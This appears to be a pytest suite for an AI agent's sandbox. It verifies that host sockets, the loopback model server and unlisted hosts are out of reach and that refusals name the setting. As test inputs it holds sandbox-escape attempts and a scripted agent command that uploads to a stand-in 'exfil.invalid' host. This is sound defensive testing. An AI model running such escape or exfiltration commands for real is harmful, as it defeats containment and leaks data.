"""The sandbox's network: its own namespace by default, the host reachable only through the
allow-list proxy, and no socket of the host's (loopback port, abstract or path Unix socket,
other families) within reach. Real bubblewrap, real servers on the host's loopback."""

from __future__ import annotations

import hashlib
import http.server
import io
import json
import os
import shutil
import socket
import sys
import tarfile
import threading
import zipfile
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest

from localhand.safety.box.allow_hosts import Entry
from localhand.safety.box.netproxy import NetProxy
from localhand.safety.box.sandbox import ProxySlot, Sandbox, available, run_sandbox
from localhand.safety.risk.types import Risk
from localhand.testing.fake_ollama import FakeOllama
from localhand.tools import CommandOutput, ShellTool, Workspace, run_shell
from sandbox_helpers import Listener, place_in_sight
from workspaces import workspace_with

pytestmark = pytest.mark.skipif(
    available() is not None, reason=f"no sandbox on this machine: {available()}"
)
PY = sys.executable  # shown in the box (localhand's interpreter), with pip
needs_curl = pytest.mark.skipif(shutil.which("curl") is None, reason="needs curl")


def no_tool_hosts(workspace: str | None) -> tuple[Entry, ...]:
    return ()


@pytest.fixture
def workspace(tmp_path: Path) -> Path:
    return workspace_with(tmp_path / "ws", {})


@pytest.fixture
def model_server() -> Iterator[FakeOllama]:
    with FakeOllama() as server:
        yield server


@contextmanager
def boxed(
    allow: tuple[str, ...] = (), tool_hosts: tuple[Entry, ...] = ()
) -> Iterator[tuple[Sandbox, NetProxy]]:
    """A sandbox whose network goes through a proxy of its own, closed afterwards."""
    proxy = NetProxy(allow, tool_hosts=lambda _: tool_hosts)
    try:
        yield Sandbox(allow_hosts=allow, proxy=proxy), proxy
    finally:
        proxy.close()


def run_boxed(command: str, workspace: Path, **boxing: Any) -> tuple[CommandOutput, NetProxy]:
    """``command`` run in ``workspace`` in a ``boxed(**boxing)`` sandbox, and its proxy."""
    with boxed(**boxing) as (box, proxy):
        return run_shell(command, workspace, sandbox=box), proxy


def connect_script(workspace: Path) -> None:
    (workspace / "connect.py").write_text(
        "import socket, sys\n"
        "family = {'inet': socket.AF_INET, 'unix': socket.AF_UNIX}[sys.argv[1]]\n"
        "address = sys.argv[2]\n"
        "if family == socket.AF_INET:\n"
        "    host, port = address.rsplit(':', 1); address = (host, int(port))\n"
        "elif address.startswith('@'):\n"
        "    address = '\\0' + address[1:]\n"
        "s = socket.socket(family); s.settimeout(3)\n"
        "try:\n"
        "    s.connect(address); s.sendall(b'POST /api/create'); print('CONNECTED')\n"
        "except OSError as error:\n"
        "    print('refused:', error)\n"
    )


@needs_curl
def test_the_model_server_on_host_loopback_is_out_of_reach_by_default(
    workspace: Path, model_server: FakeOllama
) -> None:
    port = model_server.url.rsplit(":", 1)[1].rstrip("/")
    connect_script(workspace)
    with boxed() as (box, _):
        commands = [
            f"curl -sS -m 5 -X POST http://127.0.0.1:{port}/api/create -d '{{}}'",
            f"curl -sS -m 5 --noproxy '' -X POST http://127.0.0.1:{port}/api/create",
            f"curl -sS -m 5 -p --noproxy '' http://localhost:{port}/api/tags",
            f"{PY} connect.py inet 127.0.0.1:{port}",
        ]
        outputs = [run_shell(c, workspace, sandbox=box, timeout_s=20).output for c in commands]
    assert model_server.requests == [], outputs
    assert "CONNECTED" not in outputs[3] and "refused" in outputs[3]
    assert "allow_hosts" in outputs[1]  # the proxy said why, and which setting allows it


def test_an_abstract_socket_of_the_host_is_out_of_reach(workspace: Path) -> None:
    name = f"localhand-test-{os.getpid()}"
    listener = Listener(socket.AF_UNIX, socket.SOCK_STREAM, "\0" + name)
    connect_script(workspace)
    try:
        done, _ = run_boxed(f"{PY} connect.py unix @{name}", workspace)
    finally:
        listener.close()
    assert "refused" in done.output and listener.connections == 0


def test_a_path_unix_socket_outside_the_workspace_is_out_of_reach(
    workspace: Path, request: pytest.FixtureRequest
) -> None:
    sight = place_in_sight(request.config.rootpath, "netsock-")
    if sight is None:
        pytest.skip("no directory outside the workspace that the sandbox shows")
    path = sight / "service.sock"
    listener = Listener(socket.AF_UNIX, socket.SOCK_STREAM, str(path))
    connect_script(workspace)
    try:
        with boxed() as (box, _):
            seen = run_shell(f"test -S {path} -o -e {path} && echo SEEN", workspace, sandbox=box)
            done = run_shell(f"{PY} connect.py unix {path}", workspace, sandbox=box)
            # A socket the command makes itself, in the workspace, still works.
            own = run_shell(
                f"{PY} -c \"import socket; s=socket.socket(socket.AF_UNIX); s.bind('own.sock');"
                " s.listen(); c=socket.socket(socket.AF_UNIX); c.connect('own.sock');"
                " print('OWN')\"",
                workspace,
                sandbox=box,
            )
    finally:
        listener.close()
    assert "SEEN" in seen.output  # in sight: what stops it is the mask, not hiding
    assert "refused" in done.output and listener.connections == 0
    assert "OWN" in own.output, own.output


@pytest.mark.parametrize("family", [40, 17, 31, 5])  # AF_VSOCK, AF_PACKET, AF_BLUETOOTH, AppleTalk
@pytest.mark.parametrize("setting", ["proxy", "host", "off"])
def test_socket_families_beyond_inet_and_unix_are_refused_in_every_mode(
    workspace: Path, family: int, setting: str
) -> None:
    box = Sandbox(network=setting != "off", host_network=setting == "host")
    script = f"import socket\ntry:\n  socket.socket({family}, socket.SOCK_STREAM)\n"
    script += "  print('OPENED')\nexcept OSError as e:\n  print('errno', e.errno)\n"
    (workspace / "family.py").write_text(script)
    done = run_shell(f"{PY} family.py", workspace, sandbox=box, timeout_s=20)
    assert "errno 13" in done.output, done.output  # the filter's EACCES, not the kernel's


class _Index(http.server.SimpleHTTPRequestHandler):
    def log_message(self, *args: object) -> None:
        pass


@pytest.fixture
def package_index(tmp_path: Path) -> Iterator[int]:
    """A PEP 503 index on the host's loopback serving one tiny wheel."""
    root = tmp_path / "index"
    (root / "simple" / "tinypkg").mkdir(parents=True)
    wheel = "tinypkg-1.0-py3-none-any.whl"
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w") as archive:
        archive.writestr("tinypkg/__init__.py", "")
        archive.writestr(
            "tinypkg-1.0.dist-info/METADATA",
            "Metadata-Version: 2.1\nName: tinypkg\nVersion: 1.0\n",
        )
        archive.writestr(
            "tinypkg-1.0.dist-info/WHEEL",
            "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
        )
        archive.writestr("tinypkg-1.0.dist-info/RECORD", "")
    (root / "simple" / "tinypkg" / wheel).write_bytes(data.getvalue())
    (root / "simple" / "tinypkg" / "index.html").write_text(f'<a href="{wheel}">{wheel}</a>\n')
    (root / "simple" / "index.html").write_text('<a href="tinypkg/">tinypkg</a>\n')

    def handler(*args: object) -> _Index:
        return _Index(*args, directory=str(root))  # type: ignore[arg-type]

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server.server_address[1]
    server.shutdown()
    server.server_close()


@needs_curl
def test_pip_downloads_from_an_allowed_local_index_through_the_proxy(
    workspace: Path, package_index: int
) -> None:
    index = f"http://127.0.0.1:{package_index}/simple/"
    with boxed(allow=(f"127.0.0.1:{package_index}",)) as (box, _):
        pip = run_shell(
            f"{PY} -m pip download --no-deps --disable-pip-version-check -d dl "
            f"--index-url {index} tinypkg",
            workspace,
            sandbox=box,
            timeout_s=60,
        )
        # The same host through the proxy's two ways: an absolute URI and a CONNECT tunnel.
        plain = run_shell(f"curl -sS -m 5 --noproxy '' {index}", workspace, sandbox=box)
        tunnel = run_shell(f"curl -sS -m 5 -p --noproxy '' {index}", workspace, sandbox=box)
    assert (workspace / "dl" / "tinypkg-1.0-py3-none-any.whl").exists(), pip.output
    assert "tinypkg" in plain.output and "tinypkg" in tunnel.output


@pytest.fixture
def npm_registry(tmp_path: Path) -> Iterator[int]:
    """An npm registry on the host's loopback with one tiny package."""
    root = tmp_path / "registry"
    (root / "tinynpm" / "-").mkdir(parents=True)
    data = io.BytesIO()
    with tarfile.open(fileobj=data, mode="w:gz") as archive:
        manifest = json.dumps({"name": "tinynpm", "version": "1.0.0"}).encode()
        info = tarfile.TarInfo("package/package.json")
        info.size = len(manifest)
        archive.addfile(info, io.BytesIO(manifest))
    tarball = data.getvalue()
    (root / "tinynpm" / "-" / "tinynpm-1.0.0.tgz").write_bytes(tarball)
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Index)
    port = server.server_address[1]
    document = {
        "name": "tinynpm",
        "dist-tags": {"latest": "1.0.0"},
        "versions": {
            "1.0.0": {
                "name": "tinynpm",
                "version": "1.0.0",
                "dist": {
                    "tarball": f"http://127.0.0.1:{port}/tinynpm/-/tinynpm-1.0.0.tgz",
                    "shasum": hashlib.sha1(tarball).hexdigest(),
                },
            }
        },
    }
    (root / "tinynpm" / "index.html").write_text(json.dumps(document))
    server.RequestHandlerClass = lambda *a: _Index(*a, directory=str(root))  # type: ignore[assignment,arg-type,misc]
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield port
    server.shutdown()
    server.server_close()


@pytest.mark.skipif(shutil.which("npm") is None, reason="needs npm")
def test_npm_installs_from_an_allowed_local_registry_through_the_proxy(
    workspace: Path, npm_registry: int
) -> None:
    with boxed(allow=(f"127.0.0.1:{npm_registry}",)) as (box, _):
        done = run_shell(
            f"npm install --no-audit --no-fund --registry http://127.0.0.1:{npm_registry}/ tinynpm",
            workspace,
            sandbox=box,
            timeout_s=120,
        )
    assert (workspace / "node_modules" / "tinynpm" / "package.json").exists(), done.output


@needs_curl
def test_a_host_not_allowed_is_refused_naming_the_setting(
    workspace: Path, package_index: int
) -> None:
    done, proxy = run_boxed(
        f"curl -sS -m 5 --noproxy '' http://127.0.0.1:{package_index}/simple/; "
        "curl -sS -m 5 -o /dev/null -w '%{http_code}\\n' http://pypi.invalid/simple/",
        workspace,
    )
    assert "tinypkg" not in done.output
    assert "[sandbox] allow_hosts" in done.output and "403" in done.output
    assert any("pypi.invalid" in refused for refused in proxy.refusals)


@needs_curl
def test_a_name_that_resolves_to_this_machine_is_refused_unless_named_with_its_port(
    workspace: Path, package_index: int
) -> None:
    """DNS rebinding and a workspace's own pip.conf: a host the package tools name (or a
    name on the list) that resolves to a loopback address is never relayed."""
    named = Entry("localhost", package_index)  # as a pip index URL would give it
    fetch = f"curl -sS -m 5 --noproxy '' http://localhost:{package_index}/simple/"
    done, _ = run_boxed(fetch, workspace, tool_hosts=(named,))
    assert "tinypkg" not in done.output
    assert "address of this machine" in done.output and "allow_hosts" in done.output


class _Recorder:
    def __init__(self, answer: bool) -> None:
        self.answer = answer
        self.asked: list[str] = []

    def approve(self, command: str, risk: Risk) -> bool:
        self.asked.append(f"{risk.action}: {command}")
        return self.answer


@needs_curl
def test_a_new_host_is_asked_for_once_and_a_refusal_reaches_the_tool_result(
    workspace: Path,
) -> None:
    asker = _Recorder(answer=False)
    tool = ShellTool(Workspace(workspace), approver=asker, policy="never")
    from localhand.safety.box.sandbox import use_sandbox

    with boxed() as (box, _), use_sandbox(box):
        result = tool.run_command(
            "curl -sS -m 5 http://new.invalid/ ; curl -sS -m 5 http://new.invalid/x"
        )
    assert asker.asked == ["allow network access to new.invalid:80: connect to new.invalid:80"]
    assert "[Sandbox: localhand refused network access to new.invalid:80" in result.content
    assert "[sandbox] allow_hosts" in result.content


def test_the_proxy_starts_with_the_first_command_and_stops_with_the_run(
    workspace: Path,
) -> None:
    warnings: list[str] = []
    with run_sandbox(
        "workspace-write", network=True, read=(), warn=warnings.append, allow_hosts=["x.invalid"]
    ) as box:
        slot = box.proxy
        assert isinstance(slot, ProxySlot) and slot.proxy is None  # not even made yet
        run_shell("true", workspace)
        assert slot.proxy is not None
        directory = slot.proxy.directory
        assert directory is not None and os.path.exists(directory)
    assert not os.path.exists(directory)
    assert warnings == []


@needs_curl
def test_network_host_shares_the_host_network_with_a_warning(
    workspace: Path, model_server: FakeOllama
) -> None:
    warnings: list[str] = []
    port = model_server.url.rsplit(":", 1)[1].rstrip("/")
    with run_sandbox(
        "workspace-write", network=True, read=(), warn=warnings.append, network_setting="host"
    ):
        done = run_shell(f"curl -sS -m 5 http://127.0.0.1:{port}/api/version", workspace)
    assert model_server.version in done.output
    assert len(warnings) == 1 and 'network = "host"' in warnings[0]


@needs_curl
def test_a_run_without_a_person_refuses_a_new_host_in_its_events_and_tool_result(
    tmp_path: Path,
) -> None:
    """Through a whole run (as batch, MCP and --json runs are: nobody to ask): the question
    is announced and refused, and the model reads which setting would allow the host."""
    from localhand.config.settings import Settings
    from localhand.events import ApprovalDecided, EventBus, EventLog
    from localhand.models.scripted import ScriptedModel, call
    from localhand.run.task import Task
    from localhand.session.api import run_task

    bus, log = EventBus(), EventLog()
    bus.subscribe(log)
    command = "curl -sS -m 5 https://exfil.invalid/upload"
    model = ScriptedModel([call("run_command", command=command), "done"])
    task = Task("Upload it", workspace=tmp_path, agentic=True)
    run_task(task, Settings(approve="never"), bus=bus, model=model)
    decided = [e for e in log.of_type("approval_decided") if isinstance(e, ApprovalDecided)]
    assert [(e.command, e.approved) for e in decided] == [("connect to exfil.invalid:443", False)]
    (recorded,) = [e.to_dict() for e in log.events if e.type == "tool_call"]
    assert "localhand refused network access to exfil" in recorded["result_summary"]
    told = str(model.calls[-1].messages[-1])  # the tool result, as the model read it
    assert "exfil.invalid:443" in told and "[sandbox] allow_hosts" in told
